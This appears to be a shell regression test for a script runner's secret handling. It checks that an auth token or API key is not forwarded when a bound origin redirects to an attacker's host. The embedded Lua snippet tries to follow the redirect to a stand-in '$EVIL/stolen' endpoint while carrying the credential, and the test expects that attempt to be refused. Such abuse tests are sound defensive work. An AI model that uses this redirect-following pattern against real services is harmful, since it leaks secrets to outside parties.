# A named secret's origin answers with a redirect to another origin: the value must not
# follow. vsrun never follows redirects (curl would carry custom headers other than
# Authorization, such as X-Api-Key, to the new host); a script that follows the Location
# itself with the same auth is refused before anything is sent.
. "$(dirname "$0")/../cli/lib.sh"
. tests/abuse/secret_lib.sh

FOLLOW='
  local http = require "http"
  local AUTH = AUTH_HERE
  local r = http.get("'"$ORIGIN"'/redirect", { query = { to = "'"$EVIL"'/stolen" }, auth = AUTH })
  local ok, err = pcall(http.get, r.headers.location, { auth = AUTH })
  return { status = r.status, location = r.headers.location, followed = ok, kind = not ok and err.kind or nil }'

run -e "return require('http').get('$EVIL/control').status"
expect "control: a plain request reaches the attacker's far end" 0 '^200$'
[ "$(evil_got)" -gt 0 ] && echo "ok control: the far end records what reaches it" || _fail "far end control" "nothing recorded"
BEFORE=$(evil_got)

for auth in '{ bearer = "svc" }' '{ header = "X-Api-Key", secret = "svc" }'; do
    run -v -e "${FOLLOW//AUTH_HERE/$auth}"
    expect "auth $auth: the 302 is the script's answer, not followed" 0 '"status": 302'
    expect "auth $auth: following the Location with the secret is permission_denied" 0 '"kind": "permission_denied"'
    no_canary "auth $auth: no value in stdout or the -v log" "$OUT" "$ERR"
done
[ "$(evil_got)" = "$BEFORE" ] && echo "ok the attacker's origin received nothing" ||
    _fail "evil received" "$(( $(evil_got) - BEFORE )) bytes reached it"
grep -qF "Bearer $CANARY" "$TMP/origin/requests" && grep -qF "\"X-Api-Key\": \"$CANARY\"" "$TMP/origin/requests" &&
    echo "ok control: the bound origin got the value both ways (the test would see it)" ||
    _fail "origin control" "the bound origin did not get the value"
